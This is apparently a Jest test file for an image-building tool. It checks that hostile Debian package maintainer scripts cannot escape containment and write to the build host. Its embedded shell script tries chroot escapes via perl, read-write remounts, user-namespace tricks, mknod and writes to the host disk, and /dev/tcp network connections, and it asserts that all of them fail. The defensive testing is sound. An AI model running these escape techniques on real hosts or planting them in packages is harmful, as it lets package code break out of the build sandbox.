/**
 * Code that packages carry cannot write the host (issue 14, items 4 and 6). A hostile package,
 * served from a real apt repository on loopback, has a postinst that tries to remount the host's
 * tree writable (directly, after escaping dpkg's chroot, and from a user namespace of its own), to
 * write a marker outside the image (in this test's directory and under /dev), to make a device
 * node of the host's disk, and to reach the network (a TCP server this test runs on 127.0.0.1 and
 * the Debian mirror); a *.chroot post-installation script tries the same. Each records its outcome
 * in the image; every attempt must have failed and no marker may exist on the host. Around the
 * whole build, the host's /etc, dpkg status, /var/cache/apt and /var/lib/apt stay as they were.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { promises as dns } from 'node:dns';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { buildIn, failure, removeTempDirs, tempDir, tempProject, type Run } from './kiln';
import type { PresetResult } from '../src/build';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { serve } = require('../../../tools/gentoo-fixtures/serve.js');

jest.setTimeout(600_000);

/** Everything the attacks try on the host's files, in the order the script records them; every one must fail. */
const HOST_ATTEMPTS = [
  'remount-root', 'remount-usr', 'escape-remount-root', 'escape-remount-usr', 'nested-userns-remount',
  'write-host-marker', 'escape-write-host-marker', 'mknod-host-disk', 'write-host-disk', 'write-kmsg',
];
/** And on the network. */
const NET_ATTEMPTS = ['connect-loopback', 'connect-mirror'];

/**
 * The attack, as sh: every attempt in a subshell, its outcome a line "name: failed|succeeded" in
 * $RESULTS. `escape` leaves a chroot the classic way (chroot into a subdirectory, climb out of it
 * with the working directory, chroot to what is there): dpkg runs maintainer scripts chrooted.
 */
function attack(results: string, marker: string, devMarker: string, net: { port: number; mirror: string } | null): string {
  return `#!/bin/sh
RESULTS=${results}
mkdir -p "$(dirname "$RESULTS")"
: > "$RESULTS"
try() { name=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$name: succeeded" >> "$RESULTS"; else echo "$name: failed" >> "$RESULTS"; fi; }
escape() { perl -e 'mkdir "/.kiln-x"; chroot "/.kiln-x" or die; chdir ".." for 1..64; chroot "." or die; exec @ARGV or die' "$@"; }
try remount-root mount -o remount,rw /
try remount-usr mount -o remount,rw /usr
try escape-remount-root escape mount -o remount,rw /
try escape-remount-usr escape mount -o remount,rw /usr
try nested-userns-remount unshare --user --map-root-user --mount sh -c 'mount -o remount,rw / && mount -o remount,rw /usr'
try write-host-marker sh -c 'echo owned > ${marker}/direct'
try escape-write-host-marker escape sh -c 'echo owned > ${marker}/escaped'
echo owned > ${devMarker} 2>/dev/null || true
escape sh -c 'echo owned > ${devMarker}' 2>/dev/null || true
try mknod-host-disk mknod /kiln-vda b 254 0
try write-host-disk sh -c 'test -b /dev/vda && echo x > /dev/vda'
try write-kmsg sh -c 'test -c /dev/kmsg && echo kiln-contain > /dev/kmsg'
${net ? `try connect-loopback bash -c 'exec 3<>/dev/tcp/127.0.0.1/${net.port}; echo hostile >&3'\ntry connect-mirror bash -c 'exec 3<>/dev/tcp/${net.mirror}/80'\n` : ''}echo done >> "$RESULTS"
exit 0
`;
}

/** A tree's paths, with each one's type, mode, owner and content hash (mtimes left out: reads change atimes only). */
function treeState(...roots: string[]): Record<string, string> {
  const state: Record<string, string> = {};
  const walk = (p: string) => {
    const st = fs.lstatSync(p, { throwIfNoEntry: false });
    if (!st) return void (state[p] = 'absent');
    let what = `${st.mode.toString(8)} ${st.uid}:${st.gid}`;
    if (st.isSymbolicLink()) what += ` -> ${fs.readlinkSync(p)}`;
    else if (st.isFile()) what += ` ${createHash('sha256').update(fs.readFileSync(p)).digest('hex')}`;
    state[p] = what;
    if (st.isDirectory()) for (const e of fs.readdirSync(p).sort()) walk(path.join(p, e));
  };
  roots.forEach(walk);
  return state;
}
const HOST_STATE = ['/etc', '/var/lib/dpkg/status', '/var/cache/apt', '/var/lib/apt'];
/**
 * The host's account databases, left out of the comparison: the rootless suite
 * (apps/kiln/test/rootless.test.ts) adds and removes a throwaway user while other suites run. A
 * package writing them is covered by the attempts above (nothing outside the image is writable).
 */
const ACCOUNTS = /^\/etc\/(passwd|group|shadow|gshadow|subuid|subgid)-?$|^\/etc\/\.pwd\.lock$/;
const hostState = () => Object.fromEntries(Object.entries(treeState(...HOST_STATE)).filter(([p]) => !ACCOUNTS.test(p)));

/** A flat apt repository (a Packages index, no Release: sources say [trusted=yes]) of packages named for their postinst. */
function hostileRepo(packages: Record<string, string>): string {
  const repo = tempDir('kiln-contain-repo-');
  for (const [name, postinst] of Object.entries(packages)) {
    const pkg = path.join(tempDir('kiln-contain-pkg-'), name);
    fs.mkdirSync(path.join(pkg, 'DEBIAN'), { recursive: true });
    fs.mkdirSync(path.join(pkg, 'usr/share', name), { recursive: true });
    fs.writeFileSync(path.join(pkg, 'usr/share', name, 'README'), 'a package whose postinst attacks the build host\n');
    fs.writeFileSync(path.join(pkg, 'DEBIAN/control'), `Package: ${name}\nVersion: 1.0\nArchitecture: all\nMaintainer: kiln tests <kiln@example.org>\nDescription: hostile maintainer scripts\n`);
    fs.writeFileSync(path.join(pkg, 'DEBIAN/postinst'), postinst, { mode: 0o755 });
    const deb = spawnSync('dpkg-deb', ['--root-owner-group', '--build', pkg, path.join(repo, `${name}_1.0_all.deb`)], { encoding: 'utf8' });
    if (deb.status !== 0) throw new Error(`dpkg-deb: ${deb.stderr}`);
  }
  const index = spawnSync('dpkg-scanpackages', ['--multiversion', '.'], { cwd: repo, encoding: 'utf8' });
  if (index.status !== 0) throw new Error(`dpkg-scanpackages: ${index.stderr}`);
  fs.writeFileSync(path.join(repo, 'Packages'), index.stdout);
  return repo;
}

const results = (file: string) => Object.fromEntries(fs.readFileSync(file, 'utf8').trim().split('\n').filter((l) => l !== 'done').map((l) => l.split(': ')));

describe('package code runs contained', () => {
  let markers: string;
  let devMarker: string;
  let trap: net.Server;
  let trapped = 0;
  let repoServer: { url: string; close(): Promise<void> };
  let project: string;
  let run: Run<PresetResult[]>;
  let before: Record<string, string>;
  let after: Record<string, string>;

  beforeAll(async () => {
    // Outside /tmp, which every sandbox replaces with a tmpfs of its own: visible (read-only) to them.
    markers = fs.mkdtempSync('/var/tmp/kiln-contain-');
    devMarker = `/dev/kiln-contain-${path.basename(markers)}`;
    trap = net.createServer((s) => {
      trapped++;
      s.destroy();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    const reach = { port: (trap.address() as net.AddressInfo).port, mirror: (await dns.lookup('deb.debian.org', { family: 4 })).address };
    const repo = hostileRepo({
      'kiln-hostile': attack('/var/lib/kiln-hostile/apt', markers, devMarker, reach),
      'kiln-hostile-bootstrap': attack('/var/lib/kiln-hostile/bootstrap', markers, devMarker, reach),
    });
    repoServer = await serve(repo, { port: 0 });
    // The repository, as a skeleton tree's apt source (apt and mmdebstrap read the image's sources.list.d).
    const source = `deb [trusted=yes] ${repoServer.url}/ ./\n`;
    project = tempProject({
      'mkosi.conf': '[Distribution]\nDistribution=debian\nRelease=bookworm\n[Output]\nImageId=app\nFormat=directory\n[Content]\nBaseTrees=%O/base\nPackages=kiln-hostile\nSourceDateEpoch=1700000000\nWithDocs=no\n',
      'mkosi.skeleton/etc/apt/sources.list.d/hostile.list': source,
      'mkosi.postinst.chroot': { text: attack('/var/lib/kiln-hostile/chroot', markers, devMarker, reach), mode: 0o755 },
      'mkosi.images/base/mkosi.conf': '[Output]\nFormat=directory\n[Content]\nCleanPackageMetadata=no\nWithDocs=no\nPackages=kiln-hostile-bootstrap\n',
      'mkosi.images/base/mkosi.skeleton/etc/apt/sources.list.d/hostile.list': source,
    });
    before = hostState();
    run = await buildIn(project);
    after = hostState();
  });

  afterAll(async () => {
    await repoServer?.close();
    await new Promise((resolve) => trap?.close(resolve));
    fs.rmSync(markers, { recursive: true, force: true });
    removeTempDirs();
  });

  it('builds the images with the hostile packages installed', () => {
    expect(failure(run)).toBe('');
    expect(fs.existsSync(path.join(project, 'mkosi.output/app/usr/share/kiln-hostile/README'))).toBe(true);
    expect(fs.existsSync(path.join(project, 'mkosi.output/base/usr/share/kiln-hostile-bootstrap/README'))).toBe(true);
    // The user namespace maps ids to themselves: the image's owners are the packages' own.
    const mailGroup = fs.readFileSync(path.join(project, 'mkosi.output/base/etc/group'), 'utf8').match(/^mail:[^:]*:(\d+):/m)?.[1];
    expect(Number(mailGroup)).toBeGreaterThan(0);
    expect(fs.statSync(path.join(project, 'mkosi.output/base/var/mail')).gid).toBe(Number(mailGroup));
  });

  it.each([
    ['a postinst run by dpkg through apt (BaseTrees= + Packages=)', 'app', 'apt', [...HOST_ATTEMPTS, ...NET_ATTEMPTS]],
    ['a *.chroot post-installation script', 'app', 'chroot', [...HOST_ATTEMPTS, ...NET_ATTEMPTS]],
    ['a postinst run by mmdebstrap (the bootstrap)', 'base', 'bootstrap', [...HOST_ATTEMPTS, ...NET_ATTEMPTS]],
  ])('%s: every attempt on the host fails', (_what, preset, file, attempts) => {
    const got = results(path.join(project, 'mkosi.output', preset, 'var/lib/kiln-hostile', file));
    expect(Object.keys(got)).toEqual(attempts);
    expect(got).toEqual(Object.fromEntries(attempts.map((a) => [a, 'failed'])));
  });

  it('leaves no marker on the host and no connection on the test\'s server', () => {
    expect(fs.readdirSync(markers)).toEqual([]);
    expect(fs.existsSync(devMarker)).toBe(false);
    expect(trapped).toBe(0);
  });

  it('gives a chroot script the network when the build asks for it (WithNetwork=yes), and only then', async () => {
    const port = (trap.address() as net.AddressInfo).port;
    const withNet = tempProject({
      'mkosi.conf': `[Distribution]\nDistribution=debian\nRelease=bookworm\n[Output]\nImageId=net\nFormat=directory\n[Content]\nBaseTrees=${path.join(project, 'mkosi.output/base')}\n[Build]\nWithNetwork=yes\n`,
      'mkosi.postinst.chroot': { text: `#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/${port}\necho "$WITH_NETWORK" > /connected\n`, mode: 0o755 },
    });
    const before = trapped;
    const r = await buildIn(withNet);
    expect(failure(r)).toBe('');
    expect(fs.readFileSync(path.join(withNet, 'mkosi.output/net/connected'), 'utf8')).toBe('\n');
    expect(trapped).toBe(before + 1);
  });

  it("leaves the host's /etc, dpkg status, /var/cache/apt and /var/lib/apt as they were", () => {
    expect(Object.keys(before).length).toBeGreaterThan(100);
    expect(after).toEqual(before);
  });
});
